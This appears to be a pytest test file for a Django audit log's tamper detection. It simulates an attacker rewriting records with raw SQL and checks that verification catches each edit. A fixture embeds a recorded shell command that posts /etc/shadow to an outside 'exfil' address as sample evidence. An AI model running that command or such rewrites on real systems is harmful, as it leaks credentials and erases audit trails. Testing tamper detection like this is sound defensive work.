"""A database writer without the audit key, rewriting history with raw SQL.

Each attack differs from audit/tests/test_tampering.py: swapping bodies between events,
shifting a timestamp, turning a denial into an allow, erasing a command from an exec recording,
replaying a genuine signed event, replacing the anchor file with an older copy, and changing a
review's decision, which lives outside the chain (verify_audit must say so rather than imply it).
"""

import io
import json
import shutil
from datetime import timedelta

import pytest
from django.core.management import call_command

from audit import chain
from audit.models import AuditEvent
from audit.tests.factories import append, broken, event, rehash, tampering, verify

pytestmark = pytest.mark.django_db

EVENTS = "audit_auditevent"
CAST = ('{"version": 2, "width": 80, "height": 24, "timestamp": 1770000000}\n'
        '[0.1, "i", "curl -s http://10.0.0.7/exfil -d @/etc/shadow\\r"]\n[0.2, "o", "ok\\r\\n"]\n')


@pytest.fixture
def trail():
    """Five requests: two reads, a denied delete, an exec with its recording, a read."""
    return append(
        event(0, response_body=b'{"kind":"PodList","items":[]}'),
        event(1, verb="get", object_resource="secrets", response_body=b'{"kind":"Secret","data":{"k":"***"}}'),
        event(2, verb="delete", object_resource="deployments", object_name="web", response_code=403,
              decision_effect="deny", decision_rule_name="no-deletes", decision_reason='rule "no-deletes" denies'),
        event(3, verb="get", object_resource="pods", object_subresource="exec", object_name="debug",
              recording={"kind": "exec", "namespace": "default", "pod": "debug", "command": ["sh"],
                         "asciicast": CAST, "exit_code": 0, "duration_s": 0.2}),
        event(4),
    )


@pytest.fixture
def anchor_file(tmp_path, settings):
    path = tmp_path / "anchors.jsonl"
    settings.AIRLOCK_AUDIT_ANCHOR_FILE = str(path)
    return path


def named(trail, seq) -> str:
    return f"event #{seq} (audit ID {trail[seq - 1].audit_id}): "


def test_swapping_two_response_bodies_keeps_no_hash_valid(trail):
    with tampering(EVENTS) as cursor:
        cursor.execute(f"SELECT seq, response_body FROM {EVENTS} WHERE seq IN (1, 2) ORDER BY seq")
        (_, first), (_, second) = cursor.fetchall()
        cursor.execute(f"UPDATE {EVENTS} SET response_body = %s WHERE seq = 1", [second])
        cursor.execute(f"UPDATE {EVENTS} SET response_body = %s WHERE seq = 2", [first])
    assert named(trail, 1) + "edited" in broken()


def test_moving_an_event_in_time_by_a_microsecond(trail):
    moved = trail[2].request_received_timestamp - timedelta(microseconds=1)
    with tampering(EVENTS) as cursor:
        cursor.execute(f"UPDATE {EVENTS} SET request_received_timestamp = %s WHERE seq = 3", [moved])
    assert named(trail, 3) + "edited" in broken()


def test_turning_a_denial_into_an_allow(trail):
    with tampering(EVENTS) as cursor:
        cursor.execute(f"UPDATE {EVENTS} SET decision_effect = 'allow', response_code = 200, "
                       f"decision_rule_name = 'agents-all' WHERE seq = 3")
    assert named(trail, 3) + "edited" in broken()
    rehash(3)
    assert named(trail, 3) + "re-hashed: HMAC mismatch" in broken()


def test_erasing_a_command_from_an_exec_recording(trail):
    clean = CAST.replace("curl -s http://10.0.0.7/exfil -d @/etc/shadow", "ls")
    with tampering(EVENTS, "audit_recording") as cursor:
        cursor.execute("UPDATE audit_recording SET asciicast = %s", [clean])
    assert named(trail, 4) + "edited" in broken()
    with tampering(EVENTS, "audit_recording") as cursor:
        cursor.execute("DELETE FROM audit_recording")
    assert named(trail, 4) + "edited" in broken()


def test_replaying_a_genuine_signed_event_at_the_end(trail):
    """A copy of the signed allow event #1, re-linked as #6 to cover a request that went unrecorded."""
    with tampering(EVENTS) as cursor:
        columns = [f.column for f in AuditEvent._meta.concrete_fields if f.column != "id"]
        cursor.execute(f"SELECT {', '.join(columns)} FROM {EVENTS} WHERE seq = 1")
        row = dict(zip(columns, cursor.fetchone()))
        row.update(seq=6, hash="f" * 64, audit_id=str(trail[0].audit_id).replace("-", "")[::-1])
        cursor.execute(f"INSERT INTO {EVENTS} ({', '.join(row)}) VALUES ({', '.join(['%s'] * len(row))})",
                       list(row.values()))
    rehash(6)  # linked after #5, its hash recomputed; the HMAC is #1's, genuine
    assert "event #6 (audit ID" in broken() and "re-hashed: HMAC mismatch" in broken()


def test_an_older_copy_of_the_anchor_file_hides_truncation_only_from_that_file(trail, anchor_file, tmp_path):
    """The attacker truncates the chain, deletes the anchor rows and puts back yesterday's anchor file.
    The file cannot tell; a second copy kept elsewhere (export_audit --anchors to a SIEM) does."""
    chain.make_anchor("schedule")  # through #5
    older = tmp_path / "anchors.older.jsonl"
    shutil.copyfile(anchor_file, older)
    append(event(10), event(11))
    chain.make_anchor("schedule")  # through #7
    siem = tmp_path / "siem-anchors.jsonl"
    call_command("export_audit", "--anchors", "-o", str(siem), stdout=io.StringIO())

    with tampering(EVENTS, "audit_anchor", "audit_recording") as cursor:
        cursor.execute(f"DELETE FROM {EVENTS} WHERE seq > 5")
        cursor.execute("DELETE FROM audit_anchor")
    shutil.copyfile(older, anchor_file)

    quiet = verify()
    assert "newest anchor outside the database: #5" in quiet and "intact: 5 events" in quiet
    assert json.loads(older.read_text().splitlines()[-1])["seq"] == 5  # all this file can vouch for
    assert "truncated: the chain ends at #5" in broken("--anchors", str(siem))


def test_changing_a_review_decision_is_outside_what_the_chain_proves(trail):
    """The approvals tables are not chained: verify_audit must say that it does not cover them."""
    from approvals.models import Review, ReviewState

    review = Review.objects.create(connection="prod", rule_name="review-deletes", principal_subject="agent-1",
                                   principal_username="agent-1", method="DELETE", verb="delete",
                                   path="/apis/apps/v1/namespaces/shop/deployments/web", description="delete web",
                                   exact="0" * 64, state=ReviewState.DENIED, decided_by="rita", reason="no")
    append(event(20, verb="delete", review_id=str(review.pk), decision_effect="review"))
    Review.objects.filter(pk=review.pk).update(state=ReviewState.APPROVED, decided_by="mallory", reason="fine")
    output = verify()
    assert "intact: 6 events" in output
    assert "review and lease decisions" in output and "not covered" in output
